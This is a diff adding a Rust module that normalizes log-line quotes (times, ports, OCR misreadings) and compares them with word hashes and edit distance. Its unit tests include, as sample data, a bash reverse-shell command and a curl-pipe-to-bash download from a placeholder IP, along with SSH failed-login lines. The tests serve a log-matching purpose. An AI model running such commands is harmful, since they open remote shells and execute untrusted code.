@@ -1,0 +1,180 @@
+//! Quotes as they are compared: what changes from one look to the next (times,
+//! ports, counters) and what OCR mixes up is levelled out.
+
+use std::hash::{DefaultHasher, Hash as _, Hasher as _};
+
+/// Words that must agree for a part of a line to stand for the line.
+const FEWEST_WORDS: usize = 3;
+
+/// A quote that says enough to tell what it is about.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub(super) struct Quote {
+    folded: String,
+    /// Hashes of its words without the numbers, sorted. In memory only: the
+    /// hash may change with the compiler.
+    words: Vec<u64>,
+}
+
+impl Quote {
+    /// `None` for what many things have in common: `FAIL`, `48`, `web-01`.
+    pub(super) fn new(text: &str) -> Option<Self> {
+        Self::folded(fold(text))
+    }
+
+    pub(super) fn folded(folded: String) -> Option<Self> {
+        let mut words: Vec<u64> = folded
+            .split(' ')
+            .filter(|word| *word != "#" && !word.is_empty())
+            .map(|word| {
+                let mut hasher = DefaultHasher::new();
+                word.hash(&mut hasher);
+                hasher.finish()
+            })
+            .collect();
+        words.sort_unstable();
+        words.dedup();
+        (words.len() >= FEWEST_WORDS).then_some(Self { folded, words })
+    }
+
+    pub(super) fn text(&self) -> &str {
+        &self.folded
+    }
+
+    /// Whether one is the other, or a part of it, give or take a misread letter.
+    pub(super) fn is_like(&self, other: &Self) -> bool {
+        if self.folded == other.folded {
+            return true;
+        }
+        let shorter = self.words.len().min(other.words.len());
+        let (mut a, mut b, mut same) = (0, 0, 0);
+        while a < self.words.len() && b < other.words.len() {
+            match self.words[a].cmp(&other.words[b]) {
+                std::cmp::Ordering::Less => a += 1,
+                std::cmp::Ordering::Greater => b += 1,
+                std::cmp::Ordering::Equal => {
+                    (a, b, same) = (a + 1, b + 1, same + 1);
+                }
+            }
+        }
+        if same < FEWEST_WORDS {
+            return false;
+        }
+        same == shorter || (same * 2 >= shorter && self.is_misread(other))
+    }
+
+    /// Whether the words of the shorter that the longer lacks are there with a
+    /// letter or two read wrong.
+    fn is_misread(&self, other: &Self) -> bool {
+        let (short, long) = if self.words.len() <= other.words.len() {
+            (self, other)
+        } else {
+            (other, self)
+        };
+        let have: Vec<&str> = long.folded.split(' ').collect();
+        let lacking = short.folded.split(' ').filter(|word| !have.contains(word));
+        lacking
+            .filter(|word| *word != "#")
+            .all(|word| have.iter().any(|read| is_near(word, read)))
+    }
+}
+
+/// One letter in four, at least four letters: `passwoid` for `password`.
+fn is_near(a: &str, b: &str) -> bool {
+    let (a, b): (Vec<char>, Vec<char>) = (a.chars().collect(), b.chars().collect());
+    let most = a.len().min(b.len()) / 4;
+    // Names that differ in a digit are two names.
+    let digits = |word: &[char]| word.iter().filter(|c| c.is_ascii_digit()).count();
+    if most == 0 || a.len().abs_diff(b.len()) > most || digits(&a) + digits(&b) > 0 || a.len() > 64
+    {
+        return false;
+    }
+    // Levenshtein's distance, a row at a time.
+    let mut row: Vec<usize> = (0..=b.len()).collect();
+    for (i, x) in a.iter().enumerate() {
+        let mut diagonal = row[0];
+        row[0] = i + 1;
+        for (j, y) in b.iter().enumerate() {
+            let change = diagonal + usize::from(x != y);
+            diagonal = row[j + 1];
+            row[j + 1] = change.min(row[j] + 1).min(diagonal + 1);
+        }
+    }
+    row[b.len()] <= most
+}
+
+/// Lower case, single blanks, numbers as `#`, letters that OCR mixes up as
+/// one.
+pub(super) fn fold(text: &str) -> String {
+    let mut folded = String::with_capacity(text.len());
+    let lower = text.to_lowercase();
+    let words = lower
+        .split(|c: char| !(c.is_alphanumeric() || ".:%$".contains(c)))
+        .map(|word| word.trim_matches(|c: char| ".:".contains(c)))
+        .filter(|word| !word.is_empty());
+    for word in words {
+        let number = is_number(word);
+        if number && folded.ends_with('#') {
+            continue;
+        }
+        if !folded.is_empty() {
+            folded.push(' ');
+        }
+        if number {
+            folded.push('#');
+        } else {
+            let word = word.replace("rn", "m");
+            folded.extend(word.chars().map(|c| match c {
+                '0' => 'o',
+                '1' | 'l' | '|' => 'i',
+                c => c,
+            }));
+        }
+    }
+    folded
+}
+
+/// Begins with a digit: a count, a time, a size, a port. An IPv4 address does
+/// too, and is what tells attacks apart.
+fn is_number(word: &str) -> bool {
+    word.starts_with(|c: char| c.is_ascii_digit()) && word.matches('.').count() != 3
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn alike(a: &str, b: &str) -> bool {
+        Quote::new(a).unwrap().is_like(&Quote::new(b).unwrap())
+    }
+
+    #[test]
+    fn what_moves_and_what_ocr_mixes_up_does_not_count() {
+        assert_eq!(
+            fold("2026-11-23T09:14:05Z AWS_SECRET_ACCESS_KEY=wJal (27 x, 4.8 s)"),
+            "# aws secret access key wjai # x # s"
+        );
+        assert!(alike(
+            "Failed password for admin from 203.0.113.45 port 51502 ssh2",
+            "Failed passwoid for adrnin from 203.0.113.45 port 51526 ssh2",
+        ));
+        assert!(!alike(
+            "Failed password for admin from 203.0.113.45 port 51502 ssh2",
+            "Accepted password for admin from 203.0.113.45 port 51544 ssh2",
+        ));
+        assert!(alike(
+            "Failed password for admin from 203.0.113.45 port 51502 ssh2",
+            "10:02 Failed password for admin from 203.0.113.45",
+        ));
+        assert!(!alike(
+            "bash -i >& /dev/tcp/203.0.113.45/4444 0>&1",
+            "curl -s http://203.0.113.45/x.sh | bash",
+        ));
+    }
+
+    #[test]
+    fn a_quote_that_fits_anything_is_no_proof_of_sameness() {
+        for vague in ["", "FAIL", "48", "web-01", "p99 4.8 s", "CrashLoopBackOff"] {
+            assert_eq!(Quote::new(vague), None, "{vague}");
+        }
+    }
+}
